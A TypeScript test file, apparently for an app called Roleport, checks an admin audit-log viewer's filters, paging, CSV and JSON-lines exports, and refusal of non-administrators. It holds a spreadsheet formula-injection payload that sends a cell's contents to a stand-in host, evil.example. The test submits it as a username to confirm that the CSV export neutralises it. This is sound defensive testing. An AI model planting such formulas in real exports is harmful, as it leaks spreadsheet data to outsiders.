// /admin/audit: alice, an administrator, filters the audit trail, pages through it and exports it
// as CSV (a formula cell neutralised) and JSON lines; bob is refused, audited; on /sessions bob sees
// his own history and nobody else's.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { type TestApp, startTestApp } from '../support/app.ts';
import { PASSWORDS, TEST_ENV } from '../support/fixtures.ts';
import { type Client, createClient } from '../support/http-client.ts';
import { MFA_ENV, mfaConfig, testClock } from '../support/mfa.ts';
import { markStepUp } from '../support/step-up.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
const clock = testClock('2026-12-01T09:00:00.000Z');
const dir = mkdtempSync(join(tmpdir(), 'roleport-admin-audit-'));
let app: TestApp;
let alice: Client;

async function signedIn(user: 'alice' | 'bob'): Promise<Client> {
  const client = createClient(app.url);
  assert.equal((await client.login(user, PASSWORDS[user])).status, 303);
  clock.advance(60);
  return client;
}

const rowIds = (html: string) => [...html.matchAll(/data-audit-id="([^"]+)"/g)].map((m) => m[1]);
const olderLink = (html: string) => /<a href="([^"]+)" rel="next">Older/.exec(html)?.[1].replace(/&amp;/g, '&');
const stored = async (filter: Record<string, unknown> = {}) => app.ctx.audit.search({ filter, limit: 5000 });

before(async () => {
  app = await startTestApp({ config: mfaConfig({ audit: { store: { type: 'sqlite', path: join(dir, 'audit.db') } } }), env: { ...TEST_ENV, ...MFA_ENV }, clock: clock.now });
  // Someone types a spreadsheet formula as a username; it is kept as typed.
  const mallory = createClient(app.url);
  assert.equal((await mallory.login(FORMULA, 'guess')).status, 401);
  clock.advance(60);
  await signedIn('bob');
  // Forty issuances of alice's, a minute apart, half of them refused, to page through.
  for (let i = 0; i < 40; i++) {
    await app.ctx.audit.recordKept({ event: i % 2 ? 'credentials.refused' : 'credentials.issued', outcome: i % 2 ? 'refused' : 'success', actor: { username: 'alice', source: 'corp' }, target: { account: i % 4 === 0 ? 'prod' : 'dev', role: i % 4 === 0 ? 'Admin' : 'Developer' } });
    clock.advance(60);
  }
  alice = await signedIn('alice');
  await markStepUp(app, alice);
});
after(async () => {
  await app?.close();
  rmSync(dir, { recursive: true, force: true });
});

test('alice filters by person, event, outcome, account, role and time, and sees only what matches', async () => {
  const page = async (query: string) => {
    const response = await alice.get(`/admin/audit?${query}`);
    assert.equal(response.status, 200, query);
    return response.text();
  };
  const bobs = await page('person=bob');
  assert.deepEqual(rowIds(bobs), (await stored({ person: { username: 'bob' } })).map((r) => r.id));
  assert.match(bobs, /<td>login.succeeded<\/td><td>success<\/td><td>bob \(corp\)<\/td>/);
  assert.doesNotMatch(bobs, /alice \(corp\)/);

  const refusedLogins = await page('event=login.failed&outcome=refused');
  assert.equal(rowIds(refusedLogins).length, 1);
  assert.match(refusedLogins, /=HYPERLINK\(&quot;http:\/\/evil.example/);

  const prodAdmin = await page('account=prod&role=Admin&outcome=success');
  assert.equal(rowIds(prodAdmin).length, 10);
  assert.match(prodAdmin, /<td>prod\/Admin<\/td>/);
  assert.doesNotMatch(prodAdmin, /<td>dev\/Developer<\/td>|<td>credentials.refused<\/td>/);

  // Issuances i = 0..39 happened at 09:02 + i minutes: 09:10 up to 09:20 are i = 8..17.
  const window = await page('from=2026-12-01T09:10&to=2026-12-01T09:20&event=credentials.issued');
  assert.equal(rowIds(window).length, 5);
  assert.match(window, /value="2026-12-01T09:10:00.000Z"/, 'the filter stays in the form');
});

test('Older links walk the whole trail newest first, each record on exactly one page', async () => {
  const everything = (await stored()).map((r) => r.id);
  const seen: string[] = [];
  let pages = 0;
  for (let path: string | undefined = '/admin/audit?size=7'; path; pages++) {
    const html = await (await alice.get(path)).text();
    seen.push(...rowIds(html));
    path = olderLink(html);
  }
  assert.equal(pages, Math.ceil(everything.length / 7));
  assert.deepEqual(seen, everything);
  assert.equal(new Set(seen).size, seen.length);
});

test('the CSV export streams every match with formula cells neutralised; JSON lines carry whole records', async () => {
  const csv = await alice.get('/admin/audit/export?format=csv&outcome=refused');
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
  assert.match(csv.headers.get('content-disposition') ?? '', /^attachment; filename="?roleport-audit-2026-12-01.csv/);
  const lines = (await csv.text()).trimEnd().split('\r\n');
  assert.equal(lines[0], 'at,event,outcome,username,source,account,role,target_username,target_source,ip,user_agent,reason,details,request_id,id');
  assert.equal(lines.length, 1 + 21, 'the header, twenty refused issuances and the refused sign-in');
  const signIn = lines.find((line) => line.includes('login.failed'))!;
  assert.match(signIn, /,login\.failed,refused,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""open""\)",corp,/);
  assert.ok(lines.slice(1).every((line) => !/(^|,)[=+\-@]/.test(line)), 'no cell starts with a formula character');

  const jsonl = await alice.get('/admin/audit/export?format=jsonl&person=alice&event=credentials.issued');
  assert.match(jsonl.headers.get('content-type') ?? '', /^application\/x-ndjson/);
  const records = (await jsonl.text()).trimEnd().split('\n').map((line) => JSON.parse(line));
  assert.equal(records.length, 20);
  assert.ok(records.every((r) => r.actor.username === 'alice' && r.event === 'credentials.issued' && r.id && r.at));
  assert.ok(records[0].at > records[19].at, 'newest first');
});

test('a filter Roleport does not know is a 400 that says which', async () => {
  const response = await alice.get('/admin/audit?outcome=maybe');
  assert.equal(response.status, 400);
  assert.match(await response.text(), /the filter &#39;outcome&#39; must be one of success, refused, error/);
  assert.equal((await alice.get('/admin/audit/export?format=xlsx')).status, 400);
});

test('bob is refused the viewer and its exports, audited, and sees only his own history on /sessions', async () => {
  const bob = await signedIn('bob');
  await markStepUp(app, bob);
  for (const path of ['/admin/audit', '/admin/audit?person=alice', '/admin/audit/export?format=csv', '/admin/audit/export?format=jsonl']) {
    const response = await bob.get(path);
    assert.equal(response.status, 403, path);
    assert.doesNotMatch(await response.text(), /credentials\.issued|HYPERLINK/);
  }
  const refusals = await stored({ person: { username: 'bob' }, event: 'request.refused' });
  assert.deepEqual(refusals.map((r) => r.reason).sort(), ['not an administrator: GET /admin/audit', 'not an administrator: GET /admin/audit', 'not an administrator: GET /admin/audit/export', 'not an administrator: GET /admin/audit/export']);

  const sessions = await (await bob.get('/sessions')).text();
  assert.match(sessions, /Your recent activity/);
  const own = (await stored({ person: { username: 'bob', source: 'corp' } })).slice(0, 20).map((r) => r.id);
  assert.deepEqual(rowIds(sessions), own);
  assert.match(sessions, /<td>login.succeeded<\/td><td>success<\/td><td>bob \(corp\)<\/td>/);
  assert.doesNotMatch(sessions, /alice \(corp\)|HYPERLINK/);
});

test('an export longer than the pages it is read in carries every matching record once, newest first', async () => {
  for (let i = 0; i < 1100; i++) {
    await app.ctx.audit.recordKept({ event: 'role.refused', outcome: 'refused', actor: { username: 'mallory', source: 'corp' }, target: { account: 'prod', role: 'Admin' }, reason: `attempt ${i}` });
    if (i % 7 === 0) clock.advance(1); // some share a millisecond, some do not
  }
  const response = await alice.get('/admin/audit/export?format=jsonl&event=role.refused');
  const records = (await response.text()).trimEnd().split('\n').map((line) => JSON.parse(line));
  assert.equal(records.length, 1100);
  assert.equal(new Set(records.map((r) => r.id)).size, 1100);
  assert.deepEqual(records.map((r) => r.id), (await stored({ event: 'role.refused' })).map((r) => r.id));
  assert.ok(records.every((r, i) => i === 0 || records[i - 1].at >= r.at));
});
